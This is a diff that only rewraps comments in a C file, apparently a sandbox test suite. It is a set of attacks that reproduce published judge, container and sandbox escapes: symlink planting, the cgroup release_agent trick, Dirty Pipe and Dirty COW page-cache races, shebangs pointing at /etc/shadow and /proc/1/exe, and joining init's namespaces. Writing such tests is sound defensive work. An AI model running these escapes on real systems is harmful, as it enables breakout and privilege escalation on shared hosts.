@@ -1,5 +1,5 @@
-/* Published escapes from judges, runners, container engines and sandboxes. The comment before each names the software that it
- * was used against. */
+/* Published escapes from judges, runners, container engines and sandboxes. The comment before each names the software
+ * that it was used against. */
 #include "kit.h"
 #include <sys/epoll.h>
 #include <sys/mount.h>
@@ -11,8 +11,9 @@ static const char *const box_names[] = {"main",       "main.c",     "main.py",  
                                         "stdin.txt",  "a.out",      "output.txt", "res.txt",    "__init__.py", "metadata.txt",
                                         "main.class", "out",        ".env",       "output.s"};
 
-/* argv[0]: a host file. Judge0, CVE-2024-28185: a symbolic link where the runner writes next; CMS issue 376, go-judge issue 176,
- * Compiler Explorer issue 6026: a link where it reads. Creates links with every name that a runner could use. */
+/* argv[0]: a host file. Judge0, CVE-2024-28185: a symbolic link where the runner writes next; CMS issue 376, go-judge
+ * issue 176, Compiler Explorer issue 6026: a link where it reads. Creates links with every name that a runner could
+ * use. */
 ATTACK(links_by_every_name) {
   for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++)
     symlink(argv[0], box_names[i]);
@@ -26,8 +27,8 @@ ATTACK(links_by_every_name) {
   return write_file("honest", "honest\n");
 }
 
-/* Judge0, CVE-2024-28189: the runner changed the owner of everything in the box, and followed links to their targets. Here the
- * box contains links; the owner of their targets must not change. */
+/* Judge0, CVE-2024-28189: the runner changed the owner of everything in the box, and followed links to their targets.
+ * Here the box contains links; the owner of their targets must not change. */
 ATTACK(links_for_the_sweeper) {
   mkdir("box", 0777);
   for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++) {
@@ -97,7 +98,8 @@ ATTACK(leaked_directories) {
   return 0;
 }
 
-/* Container engines, CVE-2022-0492 and earlier variants: the kernel starts the attacker's program as release agent of a control group. */
+/* Container engines, CVE-2022-0492 and earlier variants: the kernel starts the attacker's program as release agent of a
+ * control group. */
 ATTACK(release_agent) {
   mkdir("g", 0755);
   TRY("mount cgroup", mount("cgroup", "g", "cgroup", 0, "memory"));
@@ -155,8 +157,8 @@ ATTACK(memory_through_proc) {
   return 0;
 }
 
-/* argv[0]: a file that the program may read but not write. CVE-2022-0847 (pipe flags), the older vmsplice variant, CVE-2016-5195
- * (copy on write): all lanes and the host share the page cache of a toolchain's file. */
+/* argv[0]: a file that the program may read but not write. CVE-2022-0847 (pipe flags), the older vmsplice variant,
+ * CVE-2016-5195 (copy on write): all lanes and the host share the page cache of a toolchain's file. */
 static volatile int racing = 1;
 static void *advise(void *at) {
   while (racing)
@@ -225,8 +227,8 @@ ATTACK(every_family) {
   return 0;
 }
 
-/* Unusual executables: an unknown format makes an old kernel load a module; interpreters that are not the tenant's (the attack on
- * runc used #!/proc/self/exe). argv[0]: a host file. */
+/* Unusual executables: an unknown format makes an old kernel load a module; interpreters that are not the tenant's (the
+ * attack on runc used #!/proc/self/exe). argv[0]: a host file. */
 ATTACK(interpreters) {
   static const char *const lines[] = {"\xff\xff\xff\xff unknown", "#!/etc/shadow\n", "#!/proc/1/exe\n", "#!/dev/null\n", "#!/box/script\n", "#!/etc/passwd\n",
                                       "#!/proc/self/fd/0\n", "#!\n", "\x7f" "ELF", ""};
@@ -243,8 +245,8 @@ ATTACK(interpreters) {
   return 0;
 }
 
-/* bubblewrap CVE-2017-5226, Firejail CVE-2022-31214, Piston issues 206 and 62, gVisor's shmctl, and related interfaces: one
- * request each that affects processes of another user. */
+/* bubblewrap CVE-2017-5226, Firejail CVE-2022-31214, Piston issues 206 and 62, gVisor's shmctl, and related interfaces:
+ * one request each that affects processes of another user. */
 ATTACK(doors_of_others) {
   TRY("type into init's terminal", open("/proc/1/fd/0", O_WRONLY));
   TRY("join init's namespaces", setns(syscall(SYS_pidfd_open, 1, 0), 0x20000000));
@@ -318,8 +320,8 @@ ATTACK(file_requests) {
   return 0;
 }
 
-/* BPF filters installed by the program: the kernel compiles them into pages that are charged to no group and come out of one budget
- * for the whole host. Also a filter that forwards system calls to a listener. */
+/* BPF filters installed by the program: the kernel compiles them into pages that are charged to no group and come out
+ * of one budget for the whole host. Also a filter that forwards system calls to a listener. */
 ATTACK(filters_on_filters) {
   struct { unsigned short code; unsigned char jt, jf; unsigned k; } allow = {6, 0, 0, 0x7fff0000};
   struct { unsigned short len; void *filter; } program = {1, &allow};
